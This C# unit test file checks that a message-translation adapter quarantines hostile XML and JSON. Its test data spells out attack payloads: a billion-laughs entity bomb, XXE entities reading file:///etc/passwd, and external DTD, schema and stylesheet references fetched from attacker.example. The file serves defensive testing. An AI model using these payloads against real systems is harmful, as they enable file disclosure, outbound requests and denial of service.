using System.Diagnostics;
using System.Text;
using CsCheck;
using LiaisonHub.Adapters.Formats;
using LiaisonHub.Adapters.Mapping;

namespace LiaisonHub.Tests.Adapters;

/// <summary>Files made to hurt. None is ever more than a reason on the desk.</summary>
public sealed class HostileDocumentTests
{
    public static TheoryData<string, string, string> Hostile => new()
    {
        { "document type", "<!DOCTYPE a [<!ELEMENT a ANY>]><a/>", QuarantineCode.DocumentType },
        { "entity bomb", "<!DOCTYPE a [<!ENTITY l \"lol\"><!ENTITY m \"&l;&l;&l;&l;&l;&l;&l;&l;&l;&l;\"><!ENTITY n "
            + "\"&m;&m;&m;&m;&m;&m;&m;&m;&m;&m;\">]><a>&n;</a>", QuarantineCode.DocumentType },
        { "external entity", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", QuarantineCode.DocumentType },
        { "external entity over the network", "<!DOCTYPE a [<!ENTITY x SYSTEM \"http://attacker.example/x\">]><a>&x;</a>", QuarantineCode.DocumentType },
        { "parameter entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://attacker.example/p.dtd\">%p;]><a/>", QuarantineCode.DocumentType },
        { "external document type", "<!DOCTYPE a SYSTEM \"http://attacker.example/a.dtd\"><a/>", QuarantineCode.DocumentType },
        { "undeclared entity", "<a>&unknown;</a>", QuarantineCode.NotXml },
        { "too deep", string.Concat(Enumerable.Repeat("<a>", 65)) + string.Concat(Enumerable.Repeat("</a>", 65)), QuarantineCode.TooDeep },
        { "very deep", string.Concat(Enumerable.Repeat("<a>", 200_000)), QuarantineCode.TooDeep },
        { "huge attribute", $"<a b=\"{new string('x', 70_000)}\"/>", QuarantineCode.TooDeep },
        { "many elements", $"<a>{string.Concat(Enumerable.Repeat("<b/>", 500_001))}</a>", QuarantineCode.TooDeep },
        { "unclosed", "<a><b></a>", QuarantineCode.NotXml },
        { "control character", "<a>\u0001</a>", QuarantineCode.NotXml },
        { "duplicate attribute", "<a b=\"1\" b=\"2\"/>", QuarantineCode.NotXml },
        { "undeclared prefix", "<x:a/>", QuarantineCode.NotXml },
        { "text after the message", "<a/>trailing", QuarantineCode.NotXml },
        { "deep JSON", new string('[', 200_000), QuarantineCode.TooDeep },
        { "deep objects", string.Concat(Enumerable.Repeat("{\"a\":", 70)) + "1" + new string('}', 70), QuarantineCode.TooDeep },
        { "a key twice", "{\"answer\":\"note\",\"answer\":\"refuse\"}", QuarantineCode.RepeatedKey },
        { "a key twice, once escaped", "{\"answer\":\"note\",\"\\u0061nswer\":\"refuse\"}", QuarantineCode.RepeatedKey },
        { "comment", "{\"a\":1}// no", QuarantineCode.NotJson },
        { "trailing comma", "{\"a\":1,}", QuarantineCode.NotJson },
        { "single quotes", "{'a':1}", QuarantineCode.NotJson },
        { "half a surrogate", "{\"a\":\"\\ud800\"}", QuarantineCode.NotJson },
        { "not a number", "{\"a\":NaN}", QuarantineCode.NotJson },
        { "unclosed JSON", "{\"a\":[1,2", QuarantineCode.NotJson },
    };

    [Theory, MemberData(nameof(Hostile))]
    public void A_hostile_file_is_put_aside_at_once_and_opens_nothing(string name, string text, string code)
    {
        var watch = Stopwatch.StartNew();

        var reasons = new[] { "XA", "XB" }.Select(state => Countries.Translate(state, text).Reason).ToList();

        Assert.All(reasons, r => Assert.Equal(code, r?.Code));
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"{name} took {watch.Elapsed}");
    }

    [Fact]
    public void A_schema_location_is_never_followed()
    {
        var text = Countries.Sample("XA", "hearing-abroad.xml")
            .Replace("<DeliverRequest ",
                "<DeliverRequest xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://attacker.example/x.xsd\" ",
                StringComparison.Ordinal);

        Assert.Equal(TranslationOutcome.Complete, Countries.Translate("XA", text).Outcome);
    }

    [Fact]
    public void A_processing_instruction_has_no_effect() =>
        Assert.Equal(TranslationOutcome.Complete, Countries.Translate("XA", Countries.Sample("XA", "hearing-abroad.xml")
            .Replace("<DeliverRequest ", "<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?><DeliverRequest ", StringComparison.Ordinal)).Outcome);

    [Fact]
    public void A_hostile_document_inside_a_payload_is_no_better_than_outside() =>
        Assert.Equal(QuarantineCode.DocumentType, Countries.Translate("XA",
            "<RouteData xmlns=\"http://schemas.cjse.gov.uk/common/operations\"><DataStream><DataStreamContent>&lt;!DOCTYPE a SYSTEM "
                + "\"http://attacker.example/\"&gt;&lt;a/&gt;</DataStreamContent></DataStream></RouteData>").Reason?.Code);

    [Fact]
    public void A_reason_never_repeats_what_the_file_says()
    {
        const string canary = "Ilvane-Torrest-Canary";
        var texts = new[] { $"<a>{canary}</b>", $"{{\"{canary}\":1,\"{canary}\":2}}", $"{{\"a\":\"{canary}\"", $"{canary}",
            $"<!DOCTYPE {canary} [<!ENTITY x \"{canary}\">]><a/>" };

        foreach (var text in texts.Select(t => t))
        {
            var reason = Countries.Translate("XA", text).Reason!;
            Assert.DoesNotContain(canary, reason.Words.Replace($"'{canary}'", "", StringComparison.Ordinal) + reason.Fix, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void No_damage_to_a_real_message_makes_the_translation_throw()
    {
        var samples = new[] { Countries.Sample("XA", "hearing-abroad.xml"), Countries.Sample("XB", "hearing-result.json"),
            Countries.Sample("XB", "answer-evidence.json") }.Select(Encoding.UTF8.GetBytes).ToArray();

        Gen.Select(Gen.Int[0, samples.Length - 1], Gen.Int[0, 3000], Gen.Int[0, 40], Gen.Byte).Sample((which, at, length, with) =>
        {
            var bytes = samples[which].ToArray();
            var from = at % bytes.Length;
            for (var i = from; i < Math.Min(bytes.Length, from + length); i++)
                bytes[i] = (byte)(with + i);
            foreach (var state in new[] { "XA", "XB" })
            {
                var translation = Countries.Translate(state, "damaged", bytes);
                Assert.True(translation.Reason is not null || translation.ActType is not null);
            }
        }, iter: 400);
    }

    [Fact]
    public void A_message_cut_off_anywhere_never_becomes_an_act()
    {
        foreach (var (state, text) in new[] { ("XA", Countries.Sample("XA", "hearing-abroad.xml").TrimEnd()),
            ("XB", Countries.Sample("XB", "answer-evidence.json").TrimEnd()) })
        {
            var bytes = Encoding.UTF8.GetBytes(text);
            for (var length = 0; length < bytes.Length; length += 37)
            {
                var reason = Countries.Translate(state, "cut", bytes[..length]).Reason;
                Assert.NotNull(reason);
                Assert.True(reason.Truncated || reason.Code == QuarantineCode.Empty, $"cut at {length}: {reason.Words}");
            }
        }
    }
}
